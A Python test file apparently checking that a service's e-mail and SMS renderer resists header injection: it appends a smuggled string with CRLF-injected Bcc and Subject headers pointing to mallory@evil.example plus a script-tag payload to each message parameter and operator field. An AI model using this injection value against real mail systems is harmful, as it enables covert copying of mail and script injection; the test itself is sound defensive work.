"""Whatever a message is given, no header, recipient or markup is added to it."""

from collections.abc import Iterator
from dataclasses import replace

import pytest

from service.domain.messages import Channel, Content
from service.domain.profiles import PolicyProfile
from service.messages.render import Letter, Renderer
from service.messages.smtp import SmtpSender
from tests.messages.letters import letter_of, visible
from tests.messages.people import CONTENTS, PROFILE
from tests.messages.servers import MailServer

SMUGGLED = (
    "\r\nBcc: mallory@evil.example\r\nSubject: Hello\r\n\r\n<script>alert(1)</script>"
)
HEADERS = [
    *("From", "To", "Reply-To", "Subject", "Date", "Message-ID"),
    *("Auto-Submitted", "MIME-Version", "Content-Type", "Content-Language"),
]


def hostile_letters() -> Iterator[Letter]:
    """Yield each e-mail with each of its parameters turned hostile."""
    for content in CONTENTS:
        letter = letter_of(content, Channel.EMAIL)
        for name, value in content.parameters.items():
            parameters = {**content.parameters, name: value + SMUGGLED}
            yield replace(letter, parameters=parameters)


def hostile_profiles() -> Iterator[PolicyProfile]:
    """Yield the operator with each of its words turned hostile."""
    yield replace(PROFILE, name=PROFILE.name + SMUGGLED)
    yield replace(PROFILE, operator=PROFILE.operator + SMUGGLED)
    for field in ("phone", "dpo_email", "authority"):
        contact = replace(PROFILE.contact, **{field: "Somebody" + SMUGGLED})
        yield replace(PROFILE, contact=contact)


async def check_harmless(
    renderer: Renderer, smtp: SmtpSender, server: MailServer, letter: Letter
) -> None:
    mail = renderer.email(letter)
    await smtp.send(mail)

    taken = server.taken.pop()
    assert taken.recipients == (letter.to,)
    assert sorted(taken.message.keys()) == sorted(HEADERS)
    assert taken.message["To"] == letter.to
    assert [part.get_content_type() for part in taken.message.iter_parts()] == [
        "text/plain",
        "text/html",
    ]
    assert "<script" not in mail.html
    assert visible(mail.html)


@pytest.mark.parametrize("letter", [*hostile_letters()])
async def test_a_parameter_adds_no_header(
    renderer: Renderer, smtp: SmtpSender, mail_server: MailServer, letter: Letter
) -> None:
    await check_harmless(renderer, smtp, mail_server, letter)


@pytest.mark.parametrize("profile", [*hostile_profiles()])
@pytest.mark.parametrize("content", CONTENTS)
async def test_an_operators_words_add_no_header(
    renderer: Renderer,
    smtp: SmtpSender,
    mail_server: MailServer,
    content: Content,
    profile: PolicyProfile,
) -> None:
    letter = letter_of(content, Channel.EMAIL, profile=profile)

    await check_harmless(renderer, smtp, mail_server, letter)


def test_a_text_message_is_one_line(renderer: Renderer) -> None:
    for content in CONTENTS:
        if Channel.SMS in content.channels:
            letter = letter_of(content, Channel.SMS)
            hostile = dict.fromkeys(content.parameters, SMUGGLED)

            text = renderer.sms(replace(letter, parameters=hostile)).text

            assert text.splitlines() == [text]
